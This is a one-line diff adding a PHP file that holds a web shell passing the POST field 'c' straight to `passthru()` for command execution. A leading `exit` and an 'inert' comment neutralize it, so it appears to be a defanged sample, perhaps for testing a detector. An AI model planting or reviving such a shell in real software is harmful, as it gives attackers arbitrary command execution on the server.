@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $p = &$_POST; $c = &$p["c"]; passthru($c);
